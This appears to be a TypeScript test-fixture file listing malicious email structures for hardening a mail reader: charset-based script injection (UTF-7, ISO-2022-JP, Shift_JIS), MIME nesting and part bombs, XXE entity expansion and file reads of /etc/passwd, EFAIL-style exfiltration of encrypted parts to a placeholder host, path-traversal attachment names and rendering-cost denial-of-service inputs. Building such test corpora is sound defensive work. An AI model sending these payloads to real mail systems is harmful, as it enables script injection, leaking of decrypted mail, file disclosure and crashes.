/** The make of a message: character sets, parts in parts, bombs, bait for whoever reads them slowly. */

import {
  HOST,
  htmlAttack,
  headAttack,
  nameAttack,
  rawAttack,
  RUN,
  RUN_SHORT,
  type Attack,
} from './attack.ts';

const BOM = '\ufeff';
/** A picture by its first bytes, of one pixel and a megabyte. */
const PICTURE = Buffer.concat([
  Buffer.from('GIF89a\x01\0\x01\0', 'latin1'),
  Buffer.alloc(1024 * 1024),
]);
const SCRIPT = `<script>${RUN}</script>`;

const charsets: readonly Attack[] = [
  htmlAttack('charset: UTF-7', `+ADw-script+AD4-${RUN_SHORT}+ADw-/script+AD4-`, 'utf-7'),
  htmlAttack(
    'charset: UTF-7 that nobody declared',
    '+ADw-img src=x onerror=alert(1)+AD4-',
    'x-unknown',
  ),
  htmlAttack(
    'charset: ISO-2022-JP escapes',
    `<img alt="\x1b$B"><img src=x onerror=${RUN_SHORT}>\x1b(B">`,
    'iso-2022-jp',
  ),
  htmlAttack(
    'charset: ISO-2022-JP resets inside a tag',
    `<p title="\x1b(J\\" onclick=${RUN_SHORT} x="">x`,
    'iso-2022-jp',
  ),
  htmlAttack('charset: HZ', `~{<script>~}${RUN_SHORT}~{</script>~}`, 'hz-gb-2312'),
  htmlAttack('charset: Big5 eats a quote', `<p title="\u00a3" onclick="${RUN_SHORT}">x`, 'big5'),
  htmlAttack(
    'charset: Shift_JIS eats a quote',
    `<p title="\u0081" onclick="${RUN_SHORT}">x`,
    'shift_jis',
  ),
  htmlAttack('charset: EBCDIC', 'LtLt', 'cp037'),
  htmlAttack(
    'charset: meta says another',
    `<meta charset=utf-7>+ADw-script+AD4-${RUN_SHORT}+ADw-/script+AD4-`,
  ),
  htmlAttack(
    'charset: overlong UTF-8',
    `\u00c0\u00bcscript>${RUN_SHORT}\u00c0\u00bc/script>`,
    'latin1',
  ),
  htmlAttack('charset: a mark in front', `${BOM}${SCRIPT}`),
  htmlAttack('charset: name is a script', SCRIPT, `"<script>${RUN_SHORT}</script>"`),
  htmlAttack('charset: name of a million letters', SCRIPT, 'x'.repeat(1_000_000)),
  htmlAttack('charset: UTF-16 as bytes', SCRIPT.split('').join('\0'), 'utf-16le'),
];

function nested(depth: number, inside: string): string {
  const open = Array.from(
    { length: depth },
    (_, at) => `Content-Type: multipart/mixed; boundary=b${at}\n\n--b${at}\n`,
  );
  return `${open.join('')}Content-Type: text/html\n\n${inside}\n`;
}

function letters(depth: number): string {
  return `${'Content-Type: message/rfc822\n\n'.repeat(depth)}Content-Type: text/html\n\n${SCRIPT}`;
}

const manyParts = (count: number, part: string): string =>
  `Content-Type: multipart/mixed; boundary=B\n\n${`--B\n${part}\n`.repeat(count)}--B--`;

const bombs: readonly Attack[] = [
  rawAttack('nesting: 2,000 multiparts', nested(2000, SCRIPT)),
  rawAttack('nesting: 3,000 messages', letters(3000)),
  rawAttack('parts: 20,000 empty ones', manyParts(20_000, 'Content-Type: text/plain\n\n')),
  rawAttack(
    'parts: 3,000 attachments',
    manyParts(3000, 'Content-Disposition: attachment; filename=a.exe\n\nx'),
  ),
  rawAttack('parts: 500 pieces of HTML', manyParts(500, `Content-Type: text/html\n\n${SCRIPT}`)),
  rawAttack(
    'parts: 400 letters with HTML',
    manyParts(400, `Content-Type: message/rfc822\n\nContent-Type: text/html\n\n${SCRIPT}`),
  ),
  rawAttack(
    'boundary: empty',
    `Content-Type: multipart/mixed; boundary=""\n\n--\nContent-Type: text/html\n\n${SCRIPT}\n----`,
  ),
  rawAttack(
    'boundary: of 100,000 letters',
    `Content-Type: multipart/mixed; boundary="${'b'.repeat(100_000)}"\n\n--${'b'.repeat(100_000)}\n\nx`,
  ),
  rawAttack(
    'boundary: the same inside',
    `Content-Type: multipart/mixed; boundary=B\n\n--B\nContent-Type: multipart/alternative; boundary=B\n\n--B\nContent-Type: text/html\n\n${SCRIPT}\n--B--`,
  ),
  rawAttack(
    'boundary: a prefix of another',
    `Content-Type: multipart/mixed; boundary=B\n\n--B\nContent-Type: multipart/mixed; boundary=BB\n\n--BB\nContent-Type: text/html\n\n${SCRIPT}\n--BB--\n--B--`,
  ),
  rawAttack(
    'alternatives: script in the plain one',
    `Content-Type: multipart/alternative; boundary=B\n\n--B\nContent-Type: text/plain\n\n${SCRIPT}\n--B\nContent-Type: text/html\n\n<p>x\n--B--`,
  ),
  rawAttack(
    'related: a page as a picture',
    `Content-Type: multipart/related; boundary=B\n\n--B\nContent-Type: text/html\n\n<img src="cid:p"><iframe src="cid:p"></iframe>\n--B\nContent-Type: image/png\nContent-ID: <p>\n\n<html>${SCRIPT}</html>\n--B--`,
  ),
  rawAttack(
    'related: an SVG as a picture',
    `Content-Type: multipart/related; boundary=B\n\n--B\nContent-Type: text/html\n\n<img src="cid:p">\n--B\nContent-Type: image/svg+xml\nContent-ID: <p>\n\n<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"><image href="http://${HOST}/cid.png"/></svg>\n--B--`,
  ),
  rawAttack(
    'related: a picture of 65,535 by 65,535',
    `Content-Type: multipart/related; boundary=B\n\n--B\nContent-Type: text/html\n\n<img src="cid:p">\n--B\nContent-Type: image/gif\nContent-ID: <p>\nContent-Transfer-Encoding: base64\n\n${btoa('GIF89a\xff\xff\xff\xff\x00\x00\x00,\x00\x00\x00\x00\xff\xff\xff\xff\x00\x02\x02D\x01\x00;')}\n--B--`,
  ),
  rawAttack(
    'related: a picture that refers to itself',
    `Content-Type: multipart/related; boundary=B\n\n--B\nContent-Type: text/html\nContent-ID: <p>\n\n<img src="cid:p"><div style="background:url(cid:p)">x</div>\n--B--`,
  ),
  rawAttack(
    'external body',
    `Content-Type: message/external-body; access-type=URL; URL="http://${HOST}/body"\n\nContent-Type: text/html\n\n`,
  ),
  rawAttack(
    'external body: a file',
    'Content-Type: message/external-body; access-type=local-file; name="/etc/passwd"\n\nContent-Type: text/plain\n\n',
  ),
  rawAttack(
    'type: a page as XML',
    `Content-Type: application/xhtml+xml\n\n<html xmlns="http://www.w3.org/1999/xhtml"><script>${RUN}</script></html>`,
  ),
  rawAttack(
    'type: XML with entities of entities',
    'Content-Type: text/xml\n\n<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><x>&b;</x>',
  ),
  rawAttack(
    'type: XML that reads a file',
    'Content-Type: text/xml\n\n<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>',
  ),
  rawAttack(
    'type: calendar with script',
    `Content-Type: text/calendar; method=REQUEST\n\nBEGIN:VCALENDAR\nVERSION:2.0\nBEGIN:VEVENT\nSUMMARY:${SCRIPT}\nURL:javascript:${RUN_SHORT}\nATTACH:http://${HOST}/a\nDTSTART:20040101T100000Z\nRRULE:FREQ=SECONDLY\nDESCRIPTION:<img src=http://${HOST}/cal.png>\nEND:VEVENT\nEND:VCALENDAR`,
  ),
  rawAttack(
    'type: vCard with script',
    `Content-Type: text/vcard\n\nBEGIN:VCARD\nVERSION:3.0\nFN:${SCRIPT}\nURL:javascript:${RUN_SHORT}\nPHOTO;VALUE=uri:http://${HOST}/photo.png\nLOGO;VALUE=uri:file:///etc/passwd\nEND:VCARD`,
  ),
  rawAttack(
    'type: report with script',
    `Content-Type: multipart/report; report-type=delivery-status; boundary=B\n\n--B\nContent-Type: text/html\n\n${SCRIPT}\n--B\nContent-Type: message/delivery-status\n\nReporting-MTA: dns; ${SCRIPT}\n\nFinal-Recipient: rfc822; x\nDiagnostic-Code: smtp; <img src=x onerror=${RUN_SHORT}>\n--B--`,
  ),
  rawAttack(
    'type: plain text that is a page',
    `Content-Type: text/plain\n\n<html>${SCRIPT}<img src="http://${HOST}/plain.png"></html>`,
  ),
  rawAttack(
    'type: rich text',
    `Content-Type: text/enriched\n\n<bold>x</bold><param>${SCRIPT}</param>`,
  ),
  rawAttack(
    'type: a page that says it is a picture',
    `Content-Type: image/png\nContent-Disposition: inline; filename=x.png\n\n${SCRIPT}`,
  ),
  rawAttack(
    'type: encrypted around script',
    `Content-Type: multipart/encrypted; protocol="application/pgp-encrypted"; boundary=B\n\n--B\nContent-Type: application/pgp-encrypted\n\nVersion: 1\n--B\nContent-Type: text/html\n\n${SCRIPT}<img src="http://${HOST}/efail?\n--B--`,
  ),
  rawAttack(
    'exfiltration around encrypted text',
    `Content-Type: multipart/mixed; boundary=B\n\n--B\nContent-Type: text/html\n\n<img src="http://${HOST}/\n--B\nContent-Type: application/pkcs7-mime; smime-type=enveloped-data\n\nMIAGCSqGSIb3\n--B\nContent-Type: text/html\n\n">\n--B--`,
  ),
  rawAttack(
    'decoding: base64 of nothing sensible',
    `Content-Type: text/html\nContent-Transfer-Encoding: base64\n\n${'=!*'.repeat(50_000)}`,
  ),
  rawAttack(
    'decoding: quoted-printable of equals signs',
    `Content-Type: text/html\nContent-Transfer-Encoding: quoted-printable\n\n${'='.repeat(300_000)}`,
  ),
  rawAttack(
    'decoding: uuencode with a path',
    'Content-Type: text/plain\n\nbegin 644 ../../../../tmp/mailkeep-uu\n#0V%T\n`\nend',
  ),
  rawAttack(
    'decoding: yEnc with a path',
    'Content-Type: text/plain\n\n=ybegin line=128 size=3 name=../../tmp/mailkeep-yenc\nabc\n=yend size=3',
  ),
];

const long = (text: string, count: number): string => text.repeat(count);

const bait: readonly Attack[] = [
  htmlAttack('cost: 60,000 nested elements', long('<div>', 60_000)),
  htmlAttack('cost: 20,000 nested tables', long('<table><tr><td>', 20_000)),
  htmlAttack('cost: 30,000 formatting elements', long('<b><i><font color=red>', 10_000)),
  htmlAttack(
    'cost: 100,000 attributes',
    `<p ${Array.from({ length: 100_000 }, (_, at) => `a${at}=1`).join(' ')}>x`,
  ),
  htmlAttack('cost: 20,000 links', long(`<a href="http://${HOST}/">x</a> `, 20_000)),
  htmlAttack(
    'cost: 20,000 pictures',
    Array.from({ length: 20_000 }, (_, at) => `<img src="http://${HOST}/${at}.png">`).join(''),
  ),
  htmlAttack('cost: 20,000 rules', `<style>${long('p b i u{color:red}', 20_000)}</style><p>x`),
  htmlAttack(
    'cost: selectors that look at everything',
    `<style>${long('* * * * * * * *:has(p ~ p ~ p){color:red}', 500)}</style>${long('<p>x</p>', 3000)}`,
  ),
  htmlAttack(
    'cost: a style attribute of a million letters',
    `<p style="${long('color:red;', 100_000)}">x`,
  ),
  htmlAttack(
    'cost: 10,000 styled elements',
    long('<p style="color:red;background:blue;margin:1px">x</p>', 10_000),
  ),
  htmlAttack('cost: one word of a million letters', `<p>${long('w', 1_000_000)}</p>`),
  htmlAttack(
    'cost: a data picture of two million letters',
    `<img src="data:image/png;base64,${long('A', 2_000_000)}">`,
  ),
  rawAttack(
    'cost: one picture of a megabyte, shown a thousand times',
    `Content-Type: multipart/related; boundary=B\n\n--B\nContent-Type: text/html\n\n${long('<img src=cid:p>', 1000)}\n` +
      `--B\nContent-Type: image/gif\nContent-ID: <p>\nContent-Transfer-Encoding: base64\n\n${PICTURE.toString('base64')}\n--B--`,
  ),
  rawAttack(
    'parts: HTML only in the sixth letter inside',
    `Content-Type: multipart/digest; boundary=B\n\n${long('--B\n\nSubject: x\n\ntext\n', 5)}--B\n\nSubject: y\nContent-Type: text/html\n\n${SCRIPT}\n--B--`,
  ),
  htmlAttack(
    'cost: colspan of two thousand millions',
    '<table><tr><td colspan=2147483647 rowspan=2147483647>x</table>',
  ),
  htmlAttack(
    'cost: text of a size of a million',
    '<p style="font-size:1000000px;width:1e9px;padding:1e8px">x',
  ),
  rawAttack(
    'cost: quotes fifty deep',
    `Content-Type: text/plain\n\n${Array.from({ length: 20_000 }, (_, at) => `${'>'.repeat(at % 50)} x`).join('\n')}`,
  ),
  rawAttack('cost: one line of quote marks', `Content-Type: text/plain\n\n${long('> ', 500_000)}`),
  rawAttack(
    'cost: almost links',
    `Content-Type: text/plain\n\n${long('a.', 200_000)}@${long('b-', 100_000)}`,
  ),
  rawAttack(
    'cost: 20,000 links in text',
    `Content-Type: text/plain\n\n${long(`http://${HOST}/x `, 20_000)}`,
  ),
  rawAttack(
    'cost: brackets after a link',
    `Content-Type: text/plain\n\nhttp://${HOST}/${long(')', 100_000)}`,
  ),
  rawAttack('cost: signature marks', `Content-Type: text/plain\n\n${long('-- \n', 50_000)}`),
  rawAttack(
    'cost: flowed without end',
    `Content-Type: text/plain; format=flowed; delsp=yes\n\n${long('x \n', 200_000)}`,
  ),
  rawAttack(
    'cost: encoded words',
    `X: ${long('=?utf-8?q?a?= ', 20_000)}\nContent-Type: text/plain\n\nx`,
  ),
  headAttack(
    'cost: 50,000 recipients',
    `From: a@b.example\nSubject: cost: recipients\nTo: ${long('x@y.example, ', 50_000)}z@y.example`,
  ),
  headAttack(
    'cost: comments in comments',
    `From: ${long('(', 20_000)}x@y.example\nSubject: cost: comments`,
  ),
  headAttack(
    'cost: quotes in an address',
    `From: ${long('"\\', 20_000)} <x@y.example>\nSubject: cost: quotes`,
  ),
  headAttack(
    'cost: 20,000 fields',
    `From: a@b.example\nSubject: cost: fields\n${Array.from({ length: 20_000 }, (_, at) => `X-${at}: y`).join('\n')}`,
  ),
  nameAttack(
    'cost: continued parameters',
    Array.from({ length: 3000 }, (_, at) => `filename*${at}=a`).join('; '),
  ),
];

export const structureAttacks = [...charsets, ...bombs, ...bait];
